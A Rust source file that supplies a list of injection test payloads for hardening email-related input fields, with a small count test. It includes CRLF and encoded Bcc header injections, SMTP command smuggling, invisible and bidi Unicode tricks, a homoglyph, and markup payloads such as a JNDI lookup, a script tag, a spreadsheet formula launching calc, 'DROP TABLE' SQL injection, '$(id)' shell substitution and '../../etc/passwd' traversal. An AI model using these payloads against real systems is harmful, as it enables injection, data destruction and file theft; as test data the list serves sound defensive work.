//! Texts of those who want to say more than a field is for.

/// Every payload: what ends a line, what hides, what is decoded later, what closes a quotation or a part, and what is too long.
pub fn payloads() -> Vec<String> {
    let fixed = [LINE_ENDS, ENCODED, HIDDEN, SYNTAX, MIME, MARKUP].concat();
    let long = [
        "x".repeat(998),
        "x".repeat(5_000),
        "ü".repeat(1_000),
        "word ".repeat(400),
        format!("=?utf-8?q?{}?=", "x".repeat(2_000)),
        " ".repeat(1_200),
        "\u{1f600}".repeat(60),
        "e\u{301}\u{302}\u{303}".repeat(30),
    ];
    fixed.into_iter().map(str::to_owned).chain(long).collect()
}

/// What somebody or something takes for the end of a line, with a header or a command after it.
const LINE_ENDS: &[&str] = &[
    "a\r\nBcc: victim@example.com",
    "a\nBcc: victim@example.com",
    "a\rBcc: victim@example.com",
    "a\n\rBcc: victim@example.com",
    "a\r\r\nBcc: victim@example.com",
    "a\r\n Bcc: folded@example.com",
    "a\r\n\tBcc: folded@example.com",
    "a\r\n\r\nanother body",
    "\r\nBcc: victim@example.com",
    "a\r\n",
    "a\0b",
    "a\0\r\nBcc: victim@example.com",
    "a\u{b}Bcc: victim@example.com",
    "a\u{c}Bcc: victim@example.com",
    "a\u{1c}Bcc: victim@example.com",
    "a\u{1e}Bcc: victim@example.com",
    "a\u{85}Bcc: victim@example.com",
    "a\u{2028}Bcc: victim@example.com",
    "a\u{2029}Bcc: victim@example.com",
    "a\u{560d}\u{560a}Bcc: victim@example.com",
    "a\u{10d}\u{10a}Bcc: victim@example.com",
    "a\u{240d}\u{240a}Bcc: victim@example.com",
    "a\r\n.\r\nMAIL FROM:<x@example.com>",
    "a\r\nQUIT\r\n",
    "a\n.\n",
    "\r\n.\r\n",
    ".",
    "..",
    "a\u{1b}[2J\u{1b}[31mred",
    "a\u{8}\u{8}\u{7f}",
    "a\tb",
    "{\"level\":\"error\"}\n{\"level\":\"forged\"}",
    "a\\r\\nBcc: victim@example.com",
];

/// What becomes a line end, or another text, when it is decoded.
const ENCODED: &[&str] = &[
    "a%0d%0aBcc: victim@example.com",
    "a%0D%0ABcc:%20victim@example.com",
    "a%250d%250aBcc: victim@example.com",
    "a%E5%98%8D%E5%98%8ABcc: victim@example.com",
    "a&#13;&#10;Bcc: victim@example.com",
    "=?utf-8?q?a=0D=0ABcc:_victim@example.com?=",
    "=?UTF-8?B?YQ0KQmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=?=",
    "=?iso-8859-1?q?a=0A?= =?iso-8859-1?q?b?=",
    "Re: =?utf-8?q?x?=",
    "=?utf-8?q?unfinished",
    "?=",
    "=0D=0ABcc: victim@example.com",
    "+AA0ACg-Bcc: victim@example.com",
];

/// What is not seen, or seen the other way round.
const HIDDEN: &[&str] = &[
    "abc\u{202e}moc.elpmaxe",
    "\u{202d}abc",
    "\u{2066}abc\u{2069}",
    "abc\u{200f}def",
    "abc\u{61c}def",
    "ab\u{200b}cd",
    "ab\u{200d}cd",
    "ab\u{ad}cd",
    "\u{feff}abc",
    "abc\u{fffe}",
    "abc\u{fff9}def\u{fffb}",
    "abc\u{e0041}\u{e007f}",
    "\u{a0}\u{3000}",
    "p\u{430}ypal",
];

/// What closes a quotation, a comment or an address.
const SYNTAX: &[&str] = &[
    "\"",
    "\\",
    "a\" <victim@example.com>, \"b",
    "a\\\" <victim@example.com>",
    "a <victim@example.com>",
    "a, victim@example.com",
    "a; b: c@example.com;",
    "(a (nested) comment",
    "<>",
    "@",
    "a:b",
    "Subject: forged",
];

/// What looks like the structure of a message.
const MIME: &[&str] = &[
    "--boundary",
    "--boundary--",
    "\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "Content-Type: multipart/mixed; boundary=x",
    "begin 644 x.txt",
    "From victim@example.com Thu Jan  1 00:00:00 1970",
];

/// What templates, spreadsheets, shells and pages take for theirs.
const MARKUP: &[&str] = &[
    "{{firstName}} {a|b}",
    "${jndi:ldap://example.com/x}",
    "{}{:?}%s%n",
    "<script>alert(1)</script>",
    "https://example.com/",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE accounts; --",
    "$(id)`id`",
    "../../etc/passwd",
    "user#1\u{1f}pk",
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_as_many_as_the_documentation_says() {
        let payloads = payloads();
        let apart: BTreeSet<&String> = payloads.iter().collect();
        assert!(apart.len() >= 96, "{}", apart.len());
    }
}
